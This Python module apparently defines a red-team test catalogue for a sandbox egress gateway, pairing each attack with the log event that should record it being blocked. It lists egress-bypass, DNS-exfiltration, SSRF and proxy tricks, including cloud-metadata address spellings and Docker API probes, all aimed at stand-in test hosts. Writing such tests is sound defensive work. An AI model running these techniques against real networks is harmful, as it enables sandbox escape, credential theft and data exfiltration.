"""The network attacks of the red-team suite: what each step runs and what must be on record.

One `Net` per catalogue entry: the attack (an op of steps/attack.py), the events
that record it (any one of `wants` within the attempt's time window), and the
outcome the policy prescribes:
- blocked: nothing came back, and a `denied` event names the attempt;
- allowed: a spelling of an allowed name is the allowed name: it reaches the
  allowed host and an `allowed` event says so;
- redirected: the step named an allowed host but pointed elsewhere; it reaches
  only the allowed host, and the event shows where the gateway really connected.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any

WEB, OTHER, SINK = "web.sbx.test", "other.sbx.test", "sink.sbx.test"
META = "169.254.169.254"
# Denied names that Docker's resolver would answer with the sink, so that even a
# gateway that wrongly forwarded them would send nothing off this machine.
SINK_ALIASES = [SINK, "web.sbx.test.evil", "evilweb.sbx.test", "metadata.google.internal",
                "x.web.sbx.test"]
B32 = "mfrggzdfmztwq2lknnwg23tpobyxe43uov3ho6dzpjqwezdfmztwq2lknnwg23t"  # 63 chars


@dataclass(frozen=True)
class Net:
    """One network attack: the op the step runs, and the events that must record it."""

    name: str
    op: dict[str, Any]
    wants: tuple[dict[str, Any], ...]
    outcome: str = "blocked"
    dns_rcode: int | None = None  # for DNS attacks: the answer's rcode (3 = NXDOMAIN)
    extra: dict[str, Any] = field(default_factory=dict)

    def step_op(self) -> dict[str, Any]:
        """The op as attack.py reads it."""
        return {"name": self.name, **self.op}


def _get(host: str, path: str = "/") -> str:
    return f"GET {path} HTTP/1.0\r\nHost: {host}\r\n\r\n"


def _relay(ip: str, port: int, **more: Any) -> dict[str, Any]:
    return {"kind": "tcp", "verdict": "denied", "via": "relay", "dst_ip": ip, "dst_port": port,
            **more}


def _proxy(**more: Any) -> dict[str, Any]:
    return {"kind": "tcp", "verdict": "denied", "via": "proxy", **more}


def _dropped(kind: str, ip: str, port: int | None = None) -> dict[str, Any]:
    want: dict[str, Any] = {"kind": kind, "verdict": "denied", "source": "agent", "dst_ip": ip}
    if port is not None:
        want["dst_port"] = port
    return want


def _dns(name: str, **more: Any) -> dict[str, Any]:
    return {"kind": "dns", "verdict": "denied", "name": name, **more}


def _connect(target: str) -> str:
    return f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n"


def egress(web: str, sink: str) -> list[Net]:
    """Egress bypass: raw IPs, ignored proxy variables, UDP/QUIC, ICMP, IPv6, TLS tricks."""
    return [
        # No SNI means no name, and a name rule needs one (issue 12): the allowed host's
        # address alone is never enough, before or after the step resolved its name.
        Net("egress/tls-no-sni-allowed-ip-before-dns",
            {"op": "tls", "host": web, "port": 8443, "sni": None},
            (_relay(web, 8443, **{"reason~": "without a name"}),)),
        Net("egress/tls-no-sni-denied-ip", {"op": "tls", "host": sink, "port": 443, "sni": None},
            (_relay(sink, 443),)),
        Net("egress/tls-sni-denied-name-to-allowed-ip",
            {"op": "tls", "host": web, "port": 8443, "sni": OTHER},
            (_relay(web, 8443, name=OTHER),)),
        Net("egress/http-host-denied-name-to-allowed-ip",
            {"op": "tcp", "host": web, "port": 8080, "payload": _get(OTHER)},
            (_relay(web, 8080, name=OTHER),)),
        Net("egress/direct-ignoring-proxy-variables",
            {"op": "tcp", "host": sink, "port": 8080, "payload": _get(SINK)},
            (_relay(sink, 8080, name=SINK),)),
        Net("egress/so-bindtodevice-eth0",
            {"op": "tcp", "host": sink, "port": 80, "bind_device": "eth0",
             "timeout": 1},
            (_relay(sink, 80),
             {"kind": "tcp", "verdict": "denied", "source": "agent",
              "reason~": "SO_BINDTODEVICE"})),
        Net("egress/quic-to-allowed-ip", {"op": "udp", "host": web, "port": 443, "quic": True},
            (_dropped("udp", web, 443),)),
        Net("egress/quic-to-denied-ip", {"op": "udp", "host": sink, "port": 443, "quic": True},
            (_dropped("udp", sink, 443),)),
        Net("egress/udp-wireguard-port", {"op": "udp", "host": sink, "port": 51820},
            (_dropped("udp", sink, 51820),)),
        Net("egress/udp-ntp", {"op": "udp", "host": sink, "port": 123},
            (_dropped("udp", sink, 123),)),
        Net("egress/udp-broadcast",
            {"op": "udp", "host": "255.255.255.255", "port": 9999, "broadcast": True},
            (_dropped("udp", "255.255.255.255", 9999),)),
        Net("egress/udplite", {"op": "udp", "host": sink, "port": 9999, "protocol": 136},
            ({"verdict": "denied", "source": "agent", "dst_ip": sink, "protocol": "136"},)),
        Net("egress/icmp-echo", {"op": "icmp", "host": sink}, (_dropped("icmp", sink),)),
        Net("egress/icmpv6-echo", {"op": "icmp", "host": "2001:db8::5", "timeout": 1},
            (_dropped("ipv6", "2001:db8::5"),)),
        Net("egress/ipv6-dns", {"op": "dns", "server": "2001:db8::53", "qname": "v6.sink.sbx.test",
                                "timeout": 2},
            (_dropped("ipv6", "2001:db8::53", 53),)),
        Net("egress/ipv4-mapped-ipv6-tcp",
            {"op": "tcp", "host": f"::ffff:{sink}", "port": 8080},
            (_relay(sink, 8080),)),
        Net("egress/gateway-other-tcp-port",
            {"op": "tcp", "host": "{gateway}", "port": 8080, "timeout": 1},
            ({"kind": "tcp", "verdict": "denied", "source": "agent", "dst_port": 8080},)),
        Net("egress/gateway-udp", {"op": "udp", "host": "{gateway}", "port": 9999},
            ({"kind": "udp", "verdict": "denied", "source": "agent", "dst_port": 9999},)),
        Net("egress/relay-port-direct", {"op": "tcp", "host": "127.0.0.1", "port": 15001},
            ({"kind": "tcp", "verdict": "denied", "reason": "direct connection to the relay"},)),
        Net("egress/proxy-connect-allowed-inner-sni-denied",
            {"op": "proxy", "request": _connect(f"{WEB}:8443"),
             "tunnel_tls": {"sni": OTHER, "request": _get(OTHER, "/inner-sni")}},
            (_proxy(**{"reason~": "inside CONNECT"}),)),
        Net("egress/relay-duplicate-host-header",
            {"op": "tcp", "host": web, "port": 8080,
             "payload": f"GET /dup HTTP/1.0\r\nHost: {WEB}\r\nHost: {OTHER}\r\n\r\n"},
            (_relay(web, 8080, **{"reason~": "Host"}),)),
        Net("egress/proxy-absolute-uri-host-mismatch",
            {"op": "proxy",
             "request": f"GET http://{WEB}:8080/x HTTP/1.1\r\nHost: {OTHER}\r\n\r\n"},
            (_proxy(**{"reason~": "Host header"}),)),
        Net("egress/proxy-absolute-uri-denied",
            {"op": "proxy", "request": f"GET http://{SINK}:8080/ HTTP/1.1\r\nHost: {SINK}\r\n\r\n"},
            (_proxy(name=SINK),)),
        Net("egress/proxy-connect-allowed-name-other-port",
            {"op": "proxy", "request": _connect(f"{WEB}:2222")},
            (_proxy(name=WEB, dst_port=2222),)),
        Net("egress/proxy-connect-userinfo",
            {"op": "proxy", "request": _connect(f"{WEB}:8080@{SINK}")},
            (_proxy(**{"reason~": "bad request"}),)),
        Net("egress/proxy-absolute-uri-userinfo",
            {"op": "proxy", "request": f"GET http://{WEB}@{SINK}:8080/ HTTP/1.1\r\n\r\n"},
            (_proxy(**{"reason~": "bad request"}),)),
        Net("egress/proxy-connect-ipv4-mapped",
            {"op": "proxy", "request": _connect(f"[::ffff:{sink}]:8080")},
            (_proxy(**{"reason~": "internal"}),)),
        Net("egress/proxy-connect-decimal-ip",
            {"op": "proxy", "request": _connect(f"{_decimal(sink)}:8080")},
            (_proxy(name=str(_decimal(sink))),)),
        # The step resolves the allowed name: its address is still not allowed without a
        # name (the gateway keeps no map of its answers), on any port.
        Net("egress/raw-ip-after-dns-other-port",
            {"op": "tcp", "host": web, "port": 2222, "payload": ""},
            (_relay(web, 2222),)),
        Net("egress/tls-no-sni-after-dns",
            {"op": "tls", "host": web, "port": 8443, "sni": None},
            (_relay(web, 8443, **{"reason~": "without a name"}),)),
    ]


def _decimal(ip: str) -> int:
    a, b, c, d = (int(x) for x in ip.split("."))
    return (a << 24) | (b << 16) | (c << 8) | d


def dns(web: str, sink: str) -> list[Net]:
    """DNS: every resolver, TCP, DoT, DoH, exfiltration in names, name-matching tricks."""
    long3 = ".".join([B32] * 3)
    name253 = ".".join([B32] * 3) + "." + "a" * (253 - 3 * 64 - len(".x.sink.sbx.test")) \
        + ".x.sink.sbx.test"
    assert len(name253) == 253, len(name253)
    nx = 3
    return [
        Net("dns/embedded-resolver-tcp",
            {"op": "dns", "proto": "tcp", "server": "127.0.0.11", "qname": "tcp11.sink.sbx.test"},
            (_dns("tcp11.sink.sbx.test"),), dns_rcode=nx),
        Net("dns/direct-resolver-tcp",
            {"op": "dns", "proto": "tcp", "server": sink, "qname": "tcpdirect.sink.sbx.test"},
            (_dns("tcpdirect.sink.sbx.test"),), dns_rcode=nx),
        Net("dns/gateway-udp",
            {"op": "dns", "server": "{gateway}", "qname": "gwudp.sink.sbx.test"},
            (_dns("gwudp.sink.sbx.test"),), dns_rcode=nx),
        Net("dns/gateway-tcp",
            {"op": "dns", "proto": "tcp", "server": "{gateway}", "qname": "gwtcp.sink.sbx.test"},
            (_dns("gwtcp.sink.sbx.test"),), dns_rcode=nx),
        Net("dns/resolver-on-other-port",
            {"op": "dns", "server": sink, "port": 5353, "qname": "mdns.sink.sbx.test",
             "timeout": 1},
            (_dropped("udp", sink, 5353),)),
        Net("dns/dot-with-sni",
            {"op": "tls", "host": sink, "port": 853, "sni": "dot.sink.sbx.test"},
            # No rule for the port: refused at once, before the name (enforce mode).
            (_relay(sink, 853),)),
        Net("dns/dot-without-sni", {"op": "tls", "host": sink, "port": 853, "sni": None},
            (_relay(sink, 853),)),
        Net("dns/doh-post",
            {"op": "tls", "host": sink, "port": 443, "sni": "doh.sink.sbx.test",
             "request": "POST /dns-query HTTP/1.1\r\nHost: {host}\r\n"
                        "Content-Type: application/dns-message\r\nContent-Length: 0\r\n\r\n"},
            (_relay(sink, 443),)),
        Net("dns/doh-via-proxy", {"op": "proxy", "request": _connect("doh2.sink.sbx.test:443")},
            (_proxy(name="doh2.sink.sbx.test"),)),
        Net("dns/exfil-long-labels", {"op": "dns", "qname": f"{long3}.l.sink.sbx.test"},
            (_dns(f"{long3}.l.sink.sbx.test"),), dns_rcode=nx),
        Net("dns/exfil-253-char-name", {"op": "dns", "qname": name253},
            (_dns(name253),), dns_rcode=nx),
        Net("dns/exfil-64-char-label",
            {"op": "dns", "qname": [B32 + "a", "sink", "sbx", "test"], "timeout": 1},
            ({"kind": "dns", "verdict": "denied", "reason~": "invalid name"},
             {"kind": "dns", "verdict": "denied", "reason~": "malformed"})),
        Net("dns/exfil-name-over-253",
            {"op": "dns", "qname": [B32] * 4 + ["o", "sink", "sbx", "test"], "timeout": 1},
            ({"kind": "dns", "verdict": "denied", "reason~": "invalid name"},
             {"kind": "dns", "verdict": "denied", "reason~": "malformed"})),
        Net("dns/exfil-hex-txt",
            {"op": "dns", "qname": "736278207365637265742031.hex.sink.sbx.test", "qtype": 16},
            (_dns("736278207365637265742031.hex.sink.sbx.test", qtype="TXT"),), dns_rcode=nx),
        Net("dns/exfil-base32-aaaa", {"op": "dns", "qname": f"{B32}.b32.sink.sbx.test",
                                      "qtype": 28},
            (_dns(f"{B32}.b32.sink.sbx.test", qtype="AAAA"),), dns_rcode=nx),
        Net("dns/qtype-any", {"op": "dns", "qname": "any.sink.sbx.test", "qtype": 255},
            (_dns("any.sink.sbx.test"),), dns_rcode=nx),
        Net("dns/two-questions-allowed-first",
            {"op": "dns", "qname": [], "raw_b64": _two_questions(), "timeout": 1},
            ({"kind": "dns", "verdict": "denied", "reason~": "question"},)),
        Net("dns/not-dns-over-udp-53",
            {"op": "udp", "host": sink, "port": 53, "payload": "exfiltrated-bytes-over-port-53",
             "timeout": 1},
            ({"kind": "dns", "verdict": "denied", "reason~": "malformed"},)),
        Net("dns/not-dns-over-tcp-53",
            {"op": "tcp", "host": sink, "port": 53, "payload": "exfiltrated-bytes-over-tcp-53",
             "timeout": 1},
            ({"kind": "dns", "verdict": "denied", "reason~": "malformed"},)),
        Net("dns/name-suffix-appended-dns", {"op": "dns", "qname": "web.sbx.test.evil"},
            (_dns("web.sbx.test.evil"),), dns_rcode=nx),
        Net("dns/name-suffix-appended-connect",
            {"op": "proxy", "request": _connect("web.sbx.test.evil:8080")},
            (_proxy(name="web.sbx.test.evil"),)),
        Net("dns/name-suffix-appended-host-header",
            {"op": "tcp", "host": web, "port": 8080, "payload": _get("web.sbx.test.evil")},
            (_relay(web, 8080, name="web.sbx.test.evil"),)),
        Net("dns/name-prefix-dns", {"op": "dns", "qname": "evilweb.sbx.test"},
            (_dns("evilweb.sbx.test"),), dns_rcode=nx),
        Net("dns/name-prefix-connect",
            {"op": "proxy", "request": _connect("evilweb.sbx.test:8080")},
            (_proxy(name="evilweb.sbx.test"),)),
        Net("dns/name-subdomain-of-exact-rule", {"op": "dns", "qname": "x.web.sbx.test"},
            (_dns("x.web.sbx.test"),), dns_rcode=nx),
        Net("dns/name-homoglyph-connect",
            {"op": "proxy", "request": _connect("w\u0435b.sbx.test:8080")},
            (_proxy(),)),
        Net("dns/name-nul-byte-connect",
            {"op": "proxy", "request": _connect("web.sbx.test\x00.sink.sbx.test:8080")},
            (_proxy(**{"reason~": "bad request"}),)),
        Net("dns/name-case-dns", {"op": "dns", "qname": "WEB.SBX.TEST"},
            ({"kind": "dns", "verdict": "allowed", "name": WEB, "answers~": web},),
            outcome="allowed", dns_rcode=0),
        Net("dns/name-trailing-dot-dns", {"op": "dns", "qname": "web.sbx.test."},
            ({"kind": "dns", "verdict": "allowed", "name": WEB, "answers~": web},),
            outcome="allowed", dns_rcode=0),
        Net("dns/name-case-trailing-dot-connect",
            {"op": "proxy", "request": _connect("WeB.sBx.TeSt.:8080") .replace(
                "\r\n\r\n", "\r\n\r\n" + _get(WEB, "/case-connect"))},
            ({"kind": "tcp", "verdict": "allowed", "via": "proxy", "name": "web.sbx.test.",
              "connected_ip": web},
             {"kind": "tcp", "verdict": "allowed", "via": "proxy", "name~": "web.sbx.test",
              "connected_ip": web}), outcome="allowed"),
        Net("dns/name-case-trailing-dot-host-header",
            {"op": "tcp", "host": web, "port": 8080, "payload": _get("WEB.SBX.TEST.", "/case")},
            ({"kind": "tcp", "verdict": "allowed", "via": "relay", "connected_ip": web,
              "name~": "sbx.test"},), outcome="allowed"),
        Net("dns/name-case-trailing-dot-sni",
            {"op": "tls", "host": web, "port": 8443, "sni": "Web.Sbx.Test."},
            ({"kind": "tcp", "verdict": "allowed", "via": "relay", "connected_ip": web,
              "dst_port": 8443},), outcome="allowed"),
    ]


def _two_questions() -> str:
    """Base64 of a query with two questions: the allowed name, then an exfiltration name."""
    import base64
    import struct

    def qname(name: str) -> bytes:
        return b"".join(bytes([len(x)]) + x.encode() for x in name.split(".")) + b"\x00"

    header = struct.pack("!HHHHHH", 0x5B5B, 0x0100, 2, 0, 0, 0)
    body = qname(WEB) + b"\x00\x01\x00\x01" + qname("secret2q.sink.sbx.test") + b"\x00\x01\x00\x01"
    return base64.b64encode(header + body).decode()


def host(egress_bridge: str, host_ip: str) -> list[Net]:
    """The host and the Docker daemon: bridge addresses, the API ports, the host's address."""
    return [
        Net("host/step-bridge-docker-api-2375",
            {"op": "tcp", "host": "{bridge}", "port": 2375, "timeout": 1},
            ({"kind": "tcp", "verdict": "denied", "source": "agent", "dst_port": 2375},)),
        Net("host/step-bridge-docker-api-2376",
            {"op": "tcp", "host": "{bridge}", "port": 2376, "timeout": 1},
            ({"kind": "tcp", "verdict": "denied", "source": "agent", "dst_port": 2376},)),
        Net("host/egress-bridge-docker-api-relay",
            {"op": "tcp", "host": egress_bridge, "port": 2375},
            (_relay(egress_bridge, 2375),)),
        Net("host/egress-bridge-docker-api-proxy",
            {"op": "proxy", "request": _connect(f"{egress_bridge}:2376")},
            (_proxy(dst_ip=egress_bridge, dst_port=2376),)),
        Net("host/docker0-relay", {"op": "tcp", "host": "172.17.0.1", "port": 2375},
            (_relay("172.17.0.1", 2375),)),
        Net("host/docker0-proxy-absolute-uri",
            {"op": "proxy", "request": "GET http://172.17.0.1:2375/version HTTP/1.1\r\n\r\n"},
            (_proxy(dst_ip="172.17.0.1", dst_port=2375),)),
        Net("host/host-address-relay", {"op": "tcp", "host": host_ip, "port": 22},
            (_relay(host_ip, 22),)),
        Net("host/host-address-proxy", {"op": "proxy", "request": _connect(f"{host_ip}:2375")},
            (_proxy(dst_ip=host_ip, dst_port=2375),)),
        Net("host/gateway-itself-via-proxy",
            {"op": "proxy", "request": _connect("{gateway}:3128")},
            (_proxy(dst_port=3128, **{"reason~": "internal or host"}),)),
        Net("host/loopback-name-via-proxy", {"op": "proxy", "request": _connect("localhost:3128")},
            (_proxy(name="localhost"),)),
        Net("host/loopback-via-proxy-absolute-uri",
            {"op": "proxy", "request": "GET http://127.0.0.1:53/ HTTP/1.1\r\n\r\n"},
            (_proxy(dst_ip="127.0.0.1", dst_port=53),)),
    ]


def metadata() -> list[Net]:
    """The cloud metadata service in every spelling, directly and through the proxy."""
    path = "/latest/meta-data/"

    def direct(name: str, spelling: str) -> Net:
        # A numeric spelling is an address to libc; a name goes to DNS: both are on record.
        return Net(name, {"op": "tcp", "host": spelling, "port": 80,
                          "payload": _get(spelling, path)},
                   (_relay(META, 80), _dns(spelling)))

    return [
        direct("metadata/dotted", META),
        direct("metadata/decimal", "2852039166"),
        direct("metadata/hex", "0xa9fea9fe"),
        direct("metadata/octal", "0251.0376.0251.0376"),
        direct("metadata/short-form", "169.254.43518"),
        Net("metadata/ipv4-mapped-ipv6",
            {"op": "tcp", "host": f"::ffff:{META}", "port": 80, "payload": _get(META, path)},
            (_relay(META, 80),)),
        Net("metadata/aws-ipv6", {"op": "tcp", "host": "fd00:ec2::254", "port": 80, "timeout": 1},
            (_dropped("ipv6", "fd00:ec2::254", 80),)),
        Net("metadata/google-name",
            {"op": "tcp", "host": "metadata.google.internal", "port": 80},
            (_dns("metadata.google.internal"),)),
        Net("metadata/alibaba", {"op": "tcp", "host": "100.100.100.200", "port": 80},
            (_relay("100.100.100.200", 80),)),
        Net("metadata/icmp", {"op": "icmp", "host": META}, (_dropped("icmp", META),)),
        Net("metadata/udp", {"op": "udp", "host": META, "port": 80},
            (_dropped("udp", META, 80),)),
        Net("metadata/rebinding-style-name",
            {"op": "dns", "qname": "169.254.169.254.nip.sink.sbx.test"},
            (_dns("169.254.169.254.nip.sink.sbx.test"),), dns_rcode=3),
        Net("metadata/proxy-absolute-uri",
            {"op": "proxy", "request": f"GET http://{META}{path} HTTP/1.1\r\n\r\n"},
            (_proxy(dst_ip=META, dst_port=80),)),
        Net("metadata/proxy-connect", {"op": "proxy", "request": _connect(f"{META}:80")},
            (_proxy(dst_ip=META, dst_port=80),)),
        Net("metadata/proxy-decimal",
            {"op": "proxy", "request": "GET http://2852039166/ HTTP/1.1\r\n\r\n"},
            (_proxy(name="2852039166"),)),
        Net("metadata/proxy-hex-ipv4-mapped",
            {"op": "proxy", "request": _connect("[::ffff:a9fe:a9fe]:80")},
            (_proxy(**{"reason~": "internal"}),)),
        Net("metadata/proxy-aws-ipv6", {"op": "proxy", "request": _connect("[fd00:ec2::254]:80")},
            (_proxy(**{"reason~": "internal"}),)),
        Net("metadata/proxy-google-name",
            {"op": "proxy", "request": _connect("metadata.google.internal:80")},
            (_proxy(name="metadata.google.internal"),)),
    ]


def internal(lan_sink: str, lan_bridge: str) -> list[Net]:
    """An allowed name whose address is internal (run with a private egress network)."""
    name = "internal.sbx.test"
    return [
        Net("egress/allowed-name-resolving-internal-dns", {"op": "dns", "qname": name},
            ({"kind": "dns", "verdict": "denied", "name": name, "reason~": "internal"},)),
        Net("egress/allowed-name-resolving-internal-connect",
            {"op": "proxy", "request": _connect(f"{name}:8080")},
            (_proxy(name=name, **{"reason~": "internal"}),)),
        Net("egress/allowed-name-resolving-internal-absolute-uri",
            {"op": "proxy", "request": f"GET http://{name}:8080/ HTTP/1.1\r\nHost: {name}\r\n\r\n"},
            (_proxy(name=name, **{"reason~": "internal"}),)),
        Net("egress/allowed-name-resolving-internal-host-header",
            {"op": "tcp", "host": lan_sink, "port": 8080, "payload": _get(name)},
            # The address is internal: refused at once, before any name is read.
            (_relay(lan_sink, 8080, internal=True, **{"reason~": "internal"}),)),
        Net("egress/allowed-name-resolving-internal-sni",
            {"op": "tls", "host": lan_sink, "port": 443, "sni": name},
            (_relay(lan_sink, 443, internal=True, **{"reason~": "internal"}),)),
        Net("host/private-egress-bridge-via-proxy",
            {"op": "proxy", "request": _connect(f"{lan_bridge}:2375")},
            (_proxy(dst_ip=lan_bridge, dst_port=2375),)),
    ]


def cross(peer: dict[str, Any]) -> list[Net]:
    """Another step of the same pipeline, running at the same time: its gateway, its
    step (the agent's address), their names, and the own gateway used to reach them."""
    gw, step, egress = peer["gateway_ip"], peer["agent_ip"], peer["gateway_egress_ip"]
    names = peer["names"]
    return [
        Net("cross-step/peer-gateway-proxy-port", {"op": "tcp", "host": gw, "port": 3128},
            (_relay(gw, 3128),)),
        Net("cross-step/peer-gateway-dns", {"op": "dns", "server": gw, "qname": "peer.sbx.test"},
            (_dns("peer.sbx.test"),), dns_rcode=3),
        Net("cross-step/peer-step-tcp-listener", {"op": "tcp", "host": step, "port": 8000},
            (_relay(step, 8000),)),
        Net("cross-step/peer-step-udp", {"op": "udp", "host": step, "port": 8001},
            (_dropped("udp", step, 8001),)),
        Net("cross-step/peer-step-icmp", {"op": "icmp", "host": step},
            (_dropped("icmp", step),)),
        Net("cross-step/peer-gateway-egress-address",
            {"op": "tcp", "host": egress, "port": 3128}, (_relay(egress, 3128),)),
        Net("cross-step/peer-gateway-name", {"op": "resolve", "host": names["gateway"]},
            (_dns(names["gateway"].lower()),)),
        Net("cross-step/peer-agent-name", {"op": "resolve", "host": names["agent"]},
            (_dns(names["agent"].lower()),)),
        Net("cross-step/peer-step-name", {"op": "resolve", "host": names["step"]},
            (_dns(names["step"].lower()),)),
        Net("cross-step/proxy-connect-peer-step",
            {"op": "proxy", "request": _connect(f"{step}:8000")},
            (_proxy(dst_ip=step, dst_port=8000),)),
        Net("cross-step/proxy-absolute-uri-peer-step",
            {"op": "proxy", "request": f"GET http://{step}:8000/ HTTP/1.1\r\n\r\n"},
            (_proxy(dst_ip=step, dst_port=8000),)),
        Net("cross-step/proxy-connect-peer-gateway",
            {"op": "proxy", "request": _connect(f"{gw}:3128")},
            (_proxy(dst_ip=gw, dst_port=3128),)),
        Net("cross-step/proxy-connect-peer-gateway-egress",
            {"op": "proxy", "request": _connect(f"{egress}:3128")},
            (_proxy(dst_ip=egress, dst_port=3128),)),
        Net("cross-step/proxy-connect-peer-name",
            {"op": "proxy", "request": _connect(f"{names['gateway']}:3128")},
            (_proxy(name=names["gateway"].lower()),)),
        Net("cross-step/proxy-connect-step-pool",
            {"op": "proxy", "request": _connect("10.222.0.2:3128")},
            (_proxy(dst_ip="10.222.0.2", dst_port=3128),)),
    ]
